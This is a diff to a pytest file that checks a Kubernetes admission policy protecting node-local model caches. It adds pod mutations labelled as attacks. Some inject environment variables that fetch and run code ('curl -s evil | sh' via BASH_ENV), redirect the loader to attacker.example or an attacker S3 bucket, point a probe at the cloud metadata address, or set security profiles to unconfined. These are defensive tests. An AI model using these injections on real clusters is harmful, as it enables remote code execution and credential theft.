@@ -48,12 +48,16 @@ class Policy:
         self.variables = [(v["name"], env.program(env.compile(v["expression"]))) for v in spec["variables"]]
         self.validations = [(v["message"], env.program(env.compile(v["expression"]))) for v in spec["validations"]]
 
-    def failures(self, pod: Pod) -> list[str]:
-        obj = celpy.json_to_cel(pod)
+    def failures(self, pod: Pod, namespace: str = samples.NAMESPACE) -> list[str]:
+        """As the API server evaluates a pod created in ``namespace`` (``request.namespace``); every pod it admits has
+        ``metadata``."""
+        obj = celpy.json_to_cel({"metadata": {}, **pod})
+        request = celpy.json_to_cel({"namespace": namespace, "operation": "CREATE"})
         variables: dict[str, Any] = {}
         for name, program in self.variables:
-            variables[name] = program.evaluate({"object": obj, "variables": celpy.celtypes.MapType(variables)})
-        activation = {"object": obj, "variables": celpy.celtypes.MapType(variables)}
+            variables[name] = program.evaluate({"object": obj, "request": request,
+                                                "variables": celpy.celtypes.MapType(variables)})
+        activation = {"object": obj, "request": request, "variables": celpy.celtypes.MapType(variables)}
         failed = []
         for message, program in self.validations:
             result = program.evaluate(activation)
@@ -177,44 +181,180 @@ def _debug_container_writes_cache(pod: Pod) -> None:
                                            "volumeMounts": [{"name": "model-weights", "mountPath": "/w"}]}]
 
 
+def _loader_env(name: str, value: str) -> Callable[[Pod], None]:
+    def attack(pod: Pod) -> None:
+        _container(pod, "nvme-weights-loader")["env"].append({"name": name, "value": value})
+    attack.__name__ = f"loader_env_{name}"
+    return attack
+
+
+def _loader_source_elsewhere(pod: Pod) -> None:
+    for item in _container(pod, "nvme-weights-loader")["env"]:
+        if item["name"] == "MODEL_SOURCE_S3_URI":
+            item["value"] = "s3://attacker-bucket/qwen3-8b/"
+
+
+def _loader_env_from(pod: Pod) -> None:
+    _container(pod, "nvme-weights-loader")["envFrom"] = [{"configMapRef": {"name": "attacker"}}]
+
+
+def _loader_stdin(pod: Pod) -> None:
+    _container(pod, "nvme-weights-loader").update(stdin=True, stdinOnce=True, tty=True)
+
+
+def _loader_extra_mount(pod: Pod) -> None:
+    pod["spec"]["volumes"].append({"name": "drop", "emptyDir": {}})
+    _container(pod, "nvme-weights-loader")["volumeMounts"].append({"name": "drop", "mountPath": "/usr/local/bin"})
+
+
+def _loader_other_service_account(pod: Pod) -> None:
+    pod["spec"]["serviceAccountName"] = "default"
+
+
+def _loader_as_native_sidecar(pod: Pod) -> None:
+    _container(pod, "nvme-weights-loader")["restartPolicy"] = "Always"  # runs beside the others, an exec target
+
+
+def _loader_as_regular_container(pod: Pod) -> None:
+    loader = copy.deepcopy(_container(pod, "nvme-weights-loader"))
+    loader["name"] = "nvme-weights-loader"
+    pod["spec"]["containers"].append(loader)
+
+
+def _loader_shares_its_processes(pod: Pod) -> None:
+    pod["spec"]["shareProcessNamespace"] = True  # another container could reach the cache through /proc/<pid>/root
+
+
+def _loader_writes_another_workload_s_cache(pod: Pod) -> None:
+    """The portable loader pointed at the operator model's cache path (planned in the same namespace)."""
+    for volume in pod["spec"]["volumes"]:
+        if "hostPath" in volume:
+            volume["hostPath"]["path"] = "/opt/dlami/nvme/qwen3-8b"
+
+
+def _debug_container_joins_the_loader(pod: Pod) -> None:
+    pod["spec"]["ephemeralContainers"] = [{"name": "debug", "image": "busybox:1.37",
+                                           "targetContainerName": "nvme-weights-loader"}]
+
+
+def _apparmor_unconfined_pod(pod: Pod) -> None:
+    pod["spec"]["securityContext"]["appArmorProfile"] = {"type": "Unconfined"}
+
+
+def _apparmor_unconfined_container(pod: Pod) -> None:
+    _container(pod, "model-server")["securityContext"]["appArmorProfile"] = {"type": "Unconfined"}
+
+
+def _apparmor_annotation(pod: Pod) -> None:
+    pod["metadata"] = {"annotations": {"container.apparmor.security.beta.kubernetes.io/model-server": "unconfined"}}
+
+
+def _selinux_spc_t(pod: Pod) -> None:
+    _container(pod, "model-server")["securityContext"]["seLinuxOptions"] = {"type": "spc_t"}
+
+
+def _selinux_user(pod: Pod) -> None:
+    _container(pod, "model-server")["securityContext"]["seLinuxOptions"] = {"user": "system_u"}
+
+
+def _selinux_role_on_the_pod(pod: Pod) -> None:
+    pod["spec"]["securityContext"]["seLinuxOptions"] = {"role": "system_r"}
+
+
+def _windows_host_process(pod: Pod) -> None:
+    _container(pod, "model-server")["securityContext"]["windowsOptions"] = {"hostProcess": True}
+
+
+def _windows_host_process_pod(pod: Pod) -> None:
+    pod["spec"]["securityContext"]["windowsOptions"] = {"hostProcess": True}
+
+
+def _probe_to_another_host(pod: Pod) -> None:
+    _container(pod, "model-server")["readinessProbe"]["httpGet"]["host"] = "169.254.169.254"
+
+
+def _seccomp_other_type(pod: Pod) -> None:
+    _container(pod, "model-server")["securityContext"]["seccompProfile"] = {"type": "Unconfined"}
+
+
+READ_ONLY = "a model cache is mounted read-only"
+
+
 @pytest.mark.parametrize(("attack", "failure"), [
-    (_writable_in_server, "a model cache is mounted read-only"),
-    (_loader_runs_own_command, "a model cache is mounted read-only"),
-    (_loader_extra_args, "a model cache is mounted read-only"),
-    (_loader_other_image, "a model cache is mounted read-only"),
-    (_loader_named_by_an_impostor, "a model cache is mounted read-only"),
-    (_debug_container_writes_cache, "a model cache is mounted read-only"),
-    (_mount_the_node, "host paths are the planned model caches only"),
-    (_cache_path_with_dots, "host paths are the planned model caches only"),
+    (_writable_in_server, READ_ONLY),
+    (_loader_runs_own_command, READ_ONLY),
+    (_loader_extra_args, READ_ONLY),
+    (_loader_other_image, READ_ONLY),
+    (_loader_named_by_an_impostor, READ_ONLY),
+    (_debug_container_writes_cache, READ_ONLY),
+    (_loader_env("BASH_ENV", "$(curl -s evil | sh)"), READ_ONLY),
+    (_loader_env("BASH_FUNC_cd%%", "() { curl -s evil | sh; }"), READ_ONLY),
+    (_loader_env("AWS_ENDPOINT_URL", "https://attacker.example"), READ_ONLY),
+    (_loader_env("LD_PRELOAD", "/tmp/x.so"), READ_ONLY),
+    (_loader_source_elsewhere, READ_ONLY),
+    (_loader_env_from, READ_ONLY),
+    (_loader_stdin, READ_ONLY),
+    (_loader_extra_mount, READ_ONLY),
+    (_loader_other_service_account, READ_ONLY),
+    (_loader_as_native_sidecar, READ_ONLY),
+    (_loader_as_regular_container, READ_ONLY),
+    (_loader_shares_its_processes, READ_ONLY),
+    (_loader_writes_another_workload_s_cache, READ_ONLY),
+    (_debug_container_joins_the_loader, "no debug container joins the loader's processes"),
+    (_mount_the_node, "host paths are the planned model caches of the namespace only"),
+    (_cache_path_with_dots, ("host paths are the planned model caches of the namespace only", READ_ONLY)),
     (_privileged, "no privileged container"),
     (_host_network, "no host network, PID or IPC namespace"),
     (_host_pid, "no host network, PID or IPC namespace"),
     (_sys_admin, "no capability beyond baseline's"),
     (_host_port, "no host port"),
-    (_unconfined, "no Unconfined seccomp profile"),
+    (_unconfined, "seccomp profile RuntimeDefault or Localhost only, pod"),
+    (_seccomp_other_type, "seccomp profile RuntimeDefault or Localhost only, containers"),
     (_unmasked_proc, "the default /proc mount only"),
     (_unsafe_sysctl, "safe sysctls only"),
+    (_apparmor_unconfined_pod, "AppArmor profile RuntimeDefault or Localhost only, pod"),
+    (_apparmor_unconfined_container, "AppArmor profile RuntimeDefault or Localhost only, containers"),
+    (_apparmor_annotation, "no AppArmor annotation"),
+    (_selinux_spc_t, "SELinux type"),
+    (_selinux_user, "SELinux type"),
+    (_selinux_role_on_the_pod, "SELinux type"),
+    (_windows_host_process, "no Windows HostProcess, containers"),
+    (_windows_host_process_pod, "no Windows HostProcess, pod"),
+    (_probe_to_another_host, "no probe or lifecycle handler with a host"),
 ], ids=lambda value: value.__name__.strip("_") if callable(value) else None)
 def test_what_a_pod_creator_in_the_namespace_cannot_do(policy: Policy, portable_pod: Pod,
-                                                      attack: Callable[[Pod], None], failure: str) -> None:
+                                                      attack: Callable[[Pod], None],
+                                                      failure: str | tuple[str, ...]) -> None:
     pod = copy.deepcopy(portable_pod)
     attack(pod)
-    (failed,) = policy.failures(pod)
-    assert failed.startswith(failure), failed
+    failed = policy.failures(pod)
+    expected = failure if isinstance(failure, tuple) else (failure,)
+    assert len(failed) == len(expected) and all(f.startswith(e) for f, e in zip(failed, expected, strict=True)), failed
 
 
-def test_the_policy_denies_where_every_pod_is_the_platform_s_and_warns_where_the_operator_makes_pods() -> None:
+def test_a_loader_and_its_cache_belong_to_their_namespace(policy: Policy, portable_pod: Pod) -> None:
+    """The same pod in another namespace (whose creator may not write this one's caches): neither the path nor the
+    writer is planned there."""
+    failed = policy.failures(portable_pod, namespace="tenant-b")
+    assert [f.split(" (")[0] for f in failed] == ["host paths are the planned model caches of the namespace only",
+                                                  "a model cache is mounted read-only, except by its planned loader"]
+
+
+def test_the_policy_denies_wherever_a_cache_is_mounted_also_where_the_operator_makes_pods() -> None:
+    """Warn-only where the operator makes pods left a Pod Security ``privileged`` namespace to any pod creator
+    (``hostPath: /``, privileged): the policy denies in every namespace that mounts a cache."""
     shared = _objects(_plan(operator_models=True))
     portable_only = _objects(_plan(operator_models=False))
     label = HOST_PATH_POLICY_LABEL
-    assert shared[("Namespace", samples.NAMESPACE)]["metadata"]["labels"][label] == "warn"
+    assert shared[("Namespace", samples.NAMESPACE)]["metadata"]["labels"][label] == "deny"
     assert portable_only[("Namespace", samples.NAMESPACE)]["metadata"]["labels"][label] == "deny"
     deny = shared[("ValidatingAdmissionPolicyBinding", f"{HOST_PATH_POLICY}-deny")]["spec"]
-    warn = shared[("ValidatingAdmissionPolicyBinding", f"{HOST_PATH_POLICY}-warn")]["spec"]
     assert deny == {"policyName": HOST_PATH_POLICY, "validationActions": ["Deny"],
                     "matchResources": {"namespaceSelector": {"matchLabels": {label: "deny"}}}}
-    assert warn["validationActions"] == ["Warn", "Audit"]
     assert shared[("ValidatingAdmissionPolicy", HOST_PATH_POLICY)]["spec"]["failurePolicy"] == "Fail"
+    privileged = [o for o in shared.values() if o["kind"] == "Namespace"
+                  and o["metadata"]["labels"]["pod-security.kubernetes.io/enforce"] == "privileged"]
+    assert privileged and all(o["metadata"]["labels"][label] == "deny" for o in privileged)
 
 
 def test_a_namespace_without_caches_is_baseline_and_has_no_host_path_policy() -> None:
